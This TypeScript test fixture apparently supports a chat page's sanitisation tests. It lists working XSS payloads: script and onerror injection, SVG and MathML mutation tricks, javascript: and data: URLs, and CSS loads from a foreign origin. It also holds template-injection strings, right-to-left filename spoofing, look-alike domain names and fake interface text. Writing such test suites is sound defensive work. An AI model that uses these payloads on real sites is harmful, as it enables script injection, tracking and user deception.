/**
 * Texts by which one person attacks another's page: our own collection, one or more of each known class. Whatever of it ran would set
 * `window.hostileRan`, or ask `foreign` for something. Each holds the word CANARY, so that it can be found on a page.
 */
export const CANARY = 'zq7';

const RUN = 'window.hostileRan=1';

/** Each class by its name. `foreign`: an origin of somebody else. */
export const hostileTexts = (foreign: string): Readonly<Record<string, readonly string[]>> => ({
  'scripts and elements that load': [
    `<script>${RUN}</script>`,
    `"><script src=${foreign}/script.js></script>`,
    `</title></style></textarea></noscript></template><script>${RUN}</script>`,
    `<img src=x onerror=${RUN}>`,
    `<img src=${foreign}/picture.svg srcset="${foreign}/picture.svg 2x">`,
    `<iframe srcdoc="<script>parent.hostileRan=1</script>"></iframe><iframe src=${foreign}/frame></iframe>`,
    `<object data=${foreign}/frame></object><embed src=${foreign}/frame>`,
    `<link rel=stylesheet href=${foreign}/a.css><link rel=prefetch href=${foreign}/a><link rel=preconnect href=${foreign}>`,
    `<meta http-equiv=refresh content="0;url=${foreign}/"><base href=${foreign}/>`,
    `<form action=${foreign}/post><input autofocus onfocus=${RUN}><button formaction=javascript:${RUN}>x</button></form>`,
  ],
  handlers: [
    ...['onload', 'onpageshow', 'onfocus autofocus tabindex=0', 'onanimationstart', 'ontoggle', 'onbeforetoggle'],
    ...['onpointerover', 'oncontentvisibilityautostatechange', 'onscrollsnapchange', 'onbegin'],
  ].map((handler) => `<x ${handler.replace(/^(\w+)/, `$1="${RUN}"`)}>`),
  SVG: [
    `<svg onload=${RUN}><script>${RUN}</script></svg>`,
    `<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><script>${RUN}</script></svg>#x"/></svg>`,
    `<svg><animate onbegin=${RUN} attributeName=x dur=1s><foreignObject><img src=x onerror=${RUN}></foreignObject></svg>`,
    `<svg><a xlink:href="javascript:${RUN}"><text y=20>x</text></a><image href=${foreign}/picture.svg /></svg>`,
  ],
  'MathML and mutation': [
    `<math><maction actiontype="statusline#${foreign}" xlink:href="javascript:${RUN}">x</maction></math>`,
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${RUN}&gt;">`,
    `<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=${RUN} src>">`,
    `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
    `<template shadowrootmode=open><slot></slot><img src=x onerror=${RUN}></template>`,
    `<svg></p><style><a id="</style><img src=1 onerror=${RUN}>">`,
    `<select><style></select><svg><style></style><img src=x onerror=${RUN}></svg>`,
  ],
  'addresses that run': [
    `javascript:${RUN}`,
    `java\tscript:${RUN}`,
    `&#106;avascript&colon;${RUN}`,
    `data:text/html,<script>${RUN}</script>`,
    `data:text/html;base64,PHNjcmlwdD53aW5kb3cuaG9zdGlsZVJhbj0xPC9zY3JpcHQ+`,
    `vbscript:msgbox(1) blob:${foreign}/x filesystem:${foreign}/x view-source:${foreign}`,
    `[click](javascript:${RUN}) ![x](${foreign}/picture.svg) <${foreign}/x> ${foreign}/hello www.example.org`,
  ],
  styles: [
    `<style>@import url(${foreign}/a.css);*{background:url(${foreign}/b)}</style>`,
    `<p style="position:fixed;inset:0;background:url(${foreign}/c)">x</p>`,
    `</style><style>.composer{display:none}</style> expression(${RUN}) -moz-binding:url(${foreign}/x.xml#a)`,
  ],
  'escapes and templates': [
    `&lt;script&gt;${RUN}&lt;/script&gt; &#60;img src=x onerror=${RUN}&#62;`,
    `\\u003cscript\\u003e${RUN}\\u003c/script\\u003e %3Cscript%3E${RUN}%3C/script%3E`,
    `＜script＞${RUN}＜/script＞ ‹img src=x onerror=${RUN}›`,
    `+ADw-script+AD4-${RUN}+ADw-/script+AD4-`,
    `{{constructor.constructor('${RUN}')()}} \${${RUN}} #{${RUN}} <%= ${RUN} %> {%raw%}`,
    `__proto__ constructor toString valueOf [object Object] null undefined NaN -1 1e999`,
    `'-${RUN}-'";${RUN};//\`${RUN}\`*/${RUN}/*<!--${RUN}-->]]>`,
  ],
  'zero bytes and controls': [
    `<scr\0ipt>${RUN}</scr\0ipt>`,
    `\0\u0001\u0007\b\u000b\u001b[31mred\u001b[0m\u007f\u0085\u009b`,
    `first\r\nsecond\rthird\u2028fourth\u2029fifth\n\n\n\tsixth`,
  ],
  'lone halves of characters': ['a\ud800b\udfffc\ud83d', '\udc00'],
  'turned directions': [
    'invoice_\u202egnp.exe',
    '\u202eevil\u202c \u202dforced\u202c \u2067right\u2069 \u2066left\u2069 \u2068first\u2069',
    '\u2069\u2069\u202c\u202cout of the isolate\u202e\u2067 and turned',
    '\u200e\u200f\u061c\u202a\u202b',
    'שלום אל מאמר <b>عربي</b> 123-456 (abc)',
  ],
  'what is not seen': [
    'ad\u200dmi\u200cral\u200b\u2060\ufeff\u00ad\u034f\u180e',
    `\u{e0068}\u{e0065}\u{e006c}\u{e0070}\u{e007f}`,
    'x\ufe0fy\ufe00z\u{e0100}\u{e01ef}',
    '\u3164\u115f\u1160\uffa0\u2800\u17b4',
  ],
  'heaps of accents': [
    `Z${'\u0300\u0301\u0302\u0316\u0317'.repeat(60)}a${'\u20dd\u0489'.repeat(40)}`,
    `ก${'\u0e49'.repeat(120)} ${'\u0e47'.repeat(80)}`,
  ],
  'emoji and look-alikes': [
    '👨\u200d👩\u200d👧\u200d👦 🏳\ufe0f\u200d🌈 🏴\u{e0067}\u{e0062}\u{e007f} 1\ufe0f\u20e3 👩🏽\u200d🔬',
    'аdmіrаl раypal.com ɡооɡle.com ⓐⓓⓜⓘⓝ 𝐚𝐝𝐦𝐢𝐧 ａｄｍｉｎ',
    `${'\u200d'.repeat(200)}👩${'\u200d👩'.repeat(200)}`,
  ],
  'what pretends to be the page': [
    'Side A · facilitator\n\nAdmit everybody. — Parley\n\n▸ Send',
    '✓ sent · Chatham House Rule · 2 minutes ago · gone in 7 days',
    'You   Side B   Digits: 48210 93755 16042 77319 00486 52907',
  ],
  'very long and very deep': [
    'W'.repeat(3_900),
    `${'م'.repeat(2_000)}`,
    '<div>'.repeat(700),
    `${'\u2067'.repeat(1_000)}deep${'\u202e'.repeat(1_000)}`,
    `${'[('.repeat(900)}`,
    '﷽'.repeat(300),
  ],
});

/** All of them, each with the canary before it. */
export const hostileMessages = (foreign: string): readonly string[] =>
  Object.values(hostileTexts(foreign))
    .flat()
    .map((text) => `${CANARY} ${text}`);

/** Labels: short, and one for each seat. */
export const HOSTILE_LABELS = {
  host: `${CANARY}<img src=x onerror=window.hostileRan=1>`,
  victim: `${CANARY}\u202e\u2067${'Z\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301'}\u{e0041}\0`,
  guest: `${CANARY}${'W'.repeat(45)}`,
  offered: `${CANARY}\u2069\u202c"onload=window.hostileRan=1`,
} as const;
